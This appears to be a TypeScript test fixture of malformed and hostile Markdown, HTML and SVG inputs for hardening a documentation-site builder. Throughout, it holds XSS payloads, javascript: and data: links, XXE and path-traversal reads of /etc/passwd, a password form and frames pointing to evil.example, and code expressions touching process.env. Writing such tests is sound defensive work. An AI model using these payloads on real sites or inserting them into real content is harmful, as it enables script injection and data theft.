/** Markdown, HTML and SVG that is broken, endless or wants to run. */
import { guide, type MakeSite, site } from './broken-site.ts';

const text = (body: string) => guide(`# Ports\n\n${body}\n`);

export const MARKDOWN_CASES: Readonly<Record<string, MakeSite>> = {
  'markdown-elements-opened-for-ever': text('<b>x '.repeat(8000)),
  'markdown-elements-nested-deep': text(`${'<div>\n\n'.repeat(400)}x${'\n\n</div>'.repeat(400)}`),
  'markdown-details-nested-deep': text(
    `${'<details><summary>a</summary>\n\n'.repeat(200)}x${'\n\n</details>'.repeat(200)}`,
  ),
  'markdown-boxes-nested-deep': text(
    Array.from({ length: 100 }, (_, index) => `${':'.repeat(103 - index)}note`).join('\n'),
  ),
  'markdown-tabs-nested-deep': text(
    `${'<Tabs>\n<TabItem value="a" label="A">\n\n'.repeat(100)}x${'\n\n</TabItem>\n</Tabs>'.repeat(100)}`,
  ),
  'markdown-links-nested-deep': text(`${'['.repeat(3000)}x${'](a)'.repeat(3000)}`),
  'markdown-emphasis-without-end': text('**a *b '.repeat(3000)),
  'markdown-reference-of-references': text(
    Array.from({ length: 3000 }, (_, index) => `[a${index}]: <b${index}`).join('\n'),
  ),
  'markdown-table-without-rows': text('| a | b |\n|---|\n\n|---|---|\n| x |\n\n| a |\n|---|\n| b | c | d |'),
  'markdown-table-wide': text(`|${'a|'.repeat(3000)}\n|${'-|'.repeat(3000)}\n|${'b|'.repeat(3000)}`),
  'markdown-heading-endless': text(`## ${'long words '.repeat(5000)}`),
  'markdown-headings-many': text('## Same\n\n'.repeat(3000)),
  'markdown-footnotes-in-a-circle': text(
    'A[^1] b[^2] c[^nothing]\n\n[^1]: See [^2]\n\n[^2]: See [^1]\n\n[^3]: Never',
  ),
  'markdown-list-numbers-beyond-all': text('999999999. a\n1000000000. b\n\n0. c\n-1. d'),
  'markdown-code-lines-beyond-all': text(
    '```js {1-999999999,-5,x} showLineNumbers=999999999999\nlet a;\n```\n\n```js {9007199254740993}\nlet b;\n```',
  ),
  'markdown-code-prototype-languages': text(
    '```__proto__\na\n```\n\n```constructor\nb\n```\n\n```toString title="x"\nc\n```',
  ),
  'markdown-code-endless-line': text(`\`\`\`json\n{"a": "${'x'.repeat(200_000)}"}\n\`\`\``),
  'markdown-code-title-markup': text(
    '```js title="</figcaption><script>alert(1)</script>"\nx\n```\n\n```js title="\\" onclick=\\"alert(1)"\nx\n```\n\n```js title=`x`\ny\n```',
  ),
  'markdown-addresses-odd': text(
    [
      '[a](  javascript:alert(1) ) [b](&#x6A;avascript:alert(1)) [c](java&Tab;script:alert(1)) [d](\\javascript:alert(1))',
      '[e](vbscript:x) [f](data:text/html;base64,PHNjcmlwdD4=) [g](blob:x) [h](file:///etc/passwd) [i](view-source:x)',
      '[j](//evil.example/x) [k](\\\\evil.example) [l](http:evil) [m](https://[::1]/) [n](https://a:b@c/) [o](ms-settings:x)',
      '[p]: javascript:alert(1)',
      '',
      '[p] ![q](javascript:alert(1)) ![r](data:image/svg+xml,<svg/onload=alert(1)>) ![s](//evil.example/x.png)',
      '',
      '<javascript:alert(1)> <https://example.com/"onmouseover="alert(1)> javascript:alert(1)',
    ].join('\n'),
  ),
  'markdown-addresses-climbing': text(
    '[a](../../../../etc/passwd) [b](/../../x) [c](./%2e%2e/%2e%2e/x) [d](@site/../x.md) ![e](../../../secret.png) [f](file.txt%00.md)',
  ),
  'markdown-tabs-markup': text(
    '<Tabs groupId="__proto__" queryString=\'"><script>\'>\n<TabItem value="</button><script>alert(1)</script>" label="<img src=x onerror=alert(1)>">\n\nx\n\n</TabItem>\n<TabItem value="constructor" label={alert(1)}>\n\ny\n\n</TabItem>\n</Tabs>',
  ),
  'markdown-box-title-markup': text(
    ':::tip[<script>alert(1)</script>]\n\nx\n\n:::\n\n:::note " onclick="alert(1)\n\ny\n\n:::\n\n<Admonition type=\'"><script>\' title="</div><script>alert(1)</script>">\n\nz\n\n</Admonition>',
  ),
  'markdown-heading-id-markup': text(
    '## A {#"><script>alert(1)</script>}\n\n## B {#x" onclick="y}\n\n## C {#a b}\n\n## D {##}\n\n## E {#}',
  ),
  'markdown-components-of-prototypes': text(
    '<constructor>a</constructor>\n\n<__proto__ />\n\n<ToString x="1">b</ToString>\n\n<Tabs.Item>c</Tabs.Item>\n\n<A:b>d</A:b>',
  ),
  'markdown-emoji-of-prototypes': text(':constructor: :__proto__: :toString: :+1: :-: ::'),
  'markdown-expressions': text(
    '{process.exit(7)} {`${require("fs")}`}\n\n<div title={(() => { throw 1 })()}>x</div>\n\n<Link to={"javascript:" + alert(1)}>y</Link>\n\nexport const x = process.exit(7);\n\nimport fs from "fs";\n\n<div {...process.env}>z</div>\n\n<b dangerouslySetInnerHTML={{__html: "<script>alert(1)</script>"}} />',
  ),
  'markdown-styles-that-act': text(
    [
      '<div style="position:fixed;inset:0;z-index:999999">a</div>',
      '<div style="background:url(https://evil.example/x)">b</div>',
      '<div style="width:expression(alert(1));-moz-binding:url(x)">c</div>',
      "<div style={{ background: 'url(javascript:alert(1))', content: '\"</style><script>alert(1)</script>' }}>d</div>",
      '<div style="color:red}</style><script>alert(1)</script>">e</div>',
      '<div style="color:red} body{display:none">f</div>',
    ].join('\n\n'),
  ),
  'html-frames-and-forms': text(
    [
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<iframe src="https://evil.example/"></iframe>',
      '<form action="https://evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
      '<a href="https://evil.example/" ping="https://evil.example/" target=_blank download>y</a>',
      '<video src=x onerror=alert(1) autoplay></video><audio src="javascript:alert(1)"></audio>',
      '<input autofocus onfocus=alert(1)><select onfocus=alert(1)><keygen><marquee onstart=alert(1)>z</marquee>',
      '<dialog open>w</dialog><portal src=x></portal><frameset><frame src="javascript:alert(1)"></frameset>',
    ].join('\n\n'),
  ),
  'html-odd-blocks': text(
    '<![CDATA[ <script>alert(1)</script> ]]>\n\n<?php echo "<script>alert(1)</script>" ?>\n\n<!DOCTYPE html><!ENTITY x SYSTEM "file:///etc/passwd">\n\n&x; <!--> <script>alert(1)</script> -->\n\n<!---><script>alert(1)</script>-->\n\n<!-- a --!><script>alert(1)</script>',
  ),
  'html-closing-our-page': text(
    '</article></main></body></html><script>alert(1)</script>\n\n</div></div></div></div>\n\n</p></p>\n\n<title>x</title><body onload=alert(1)><html manifest=x><head><link rel=stylesheet href=x>',
  ),
  'html-broken-tags': text(
    '<div <p <a href=">x\n\n<div a=b"c=\'d>x</div>\n\n<a\nhref\n=\njavascript:alert(1)\n>x</a>\n\n<div/onclick=alert(1)>y\n\n< script>alert(1)</ script>\n\n<scr<script>ipt>alert(1)</scr</script>ipt>\n\n<div\0onclick=alert(1)>',
  ),
  'html-raw-text-elements': text(
    '<xmp><script>alert(1)</script></xmp>\n\n<plaintext>a\n\n<noembed><img src=x onerror=alert(1)></noembed>\n\n<listing>&lt;script&gt;</listing>',
  ),
  'html-clobbering': text(
    '<p id="main">a</p>\n\n<img name="body" id="documentElement" src="https://example.com/x.png" alt="x">\n\n<a id="__proto__">b</a>\n\n<form id="location"></form>',
  ),
  'html-svg-that-acts': text(
    '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject><use href="data:image/svg+xml,<svg/>"/><set attributeName="href" to="javascript:alert(1)"/></svg>',
  ),
  'svg-that-acts': site({
    'content/docs/guide.md': '# Ports\n\n![A map](./map.svg)\n',
    'content/docs/map.svg':
      '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)"><script>alert(1)</script><a href="javascript:alert(1)"><rect/></a></svg>',
  }),
  'svg-static-that-acts': site({
    'content/docs/guide.md': '# Ports\n',
    'content/static/logo.svg':
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>&x;</svg>',
  }),
  'picture-broken': site({
    'content/docs/guide.md':
      '# Ports\n\n![A map](./map.png) ![B map](./empty.jpg) ![C map](./text.gif) ![D](./huge.svg)\n',
    'content/docs/map.png': Buffer.from('89504e470d0a1a0a', 'hex'),
    'content/docs/empty.jpg': '',
    'content/docs/text.gif': 'not a picture',
    'content/docs/huge.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="1e999" height="-5"></svg>',
  }),
  'picture-as-large-as-can-be': site({
    'content/docs/guide.md': '# Ports\n\n![A map](./map.png)\n',
    'content/docs/map.png': Buffer.from('89504e470d0a1a0a0000000d49484452ffffffffffffffff0802000000', 'hex'),
  }),
  'partial-that-is-a-page-of-itself': site({
    'content/docs/guide.md': "import Guide from './guide.md';\n\n# Ports\n\n<Guide />\n",
  }),
  'partial-out-of-the-site': site({
    'content/docs/guide.md':
      "import One from '../../secret.md';\nimport Two from '/etc/passwd';\nimport Three from '@site/../secret.md';\nimport Four from 'file:///etc/passwd';\n\n# Ports\n\n<One /><Two /><Three /><Four />\n",
    'secret.md': 'secret\n',
  }),
  'partials-in-a-circle-of-three': site({
    'content/docs/guide.md': "import One from './_a.md';\n\n# Ports\n\n<One />\n",
    'content/docs/_a.md': "import Two from './_b.md';\n\n<Two />\n",
    'content/docs/_b.md': "import Three from './_c.md';\n\n<Three />\n",
    'content/docs/_c.md': "import One from './_a.md';\n\n<One />\n",
  }),
  'partials-that-double': site({
    'content/docs/guide.md': "import Part from './_p0.md';\n\n# Ports\n\n<Part />\n",
    ...Object.fromEntries(
      Array.from({ length: 30 }, (_, index) => [
        `content/docs/_p${index}.md`,
        index === 29 ? 'end\n' : `import Part from './_p${index + 1}.md';\n\n<Part />\n\n<Part />\n`,
      ]),
    ),
  }),
  'redirects-in-a-circle': site({
    'content/docs/a.md': '---\nredirect_from: [/docs/b, /docs/a]\n---\n\n# A\n',
    'content/docs/b.md': '---\nredirect_from: [/docs/a, /docs/old, /docs/old]\n---\n\n# B\n',
  }),
  'variables-odd': text(
    '{panel}{panel}{{panel}} {provider {panel} {PANEL} {panel.labels.nothing} \\{panel} `{panel}` {__proto__} {constructor}\n\n[x]({panelUrl}) <a href="{panelUrl}">y</a> ![z]({panel}.png)',
  ),
};
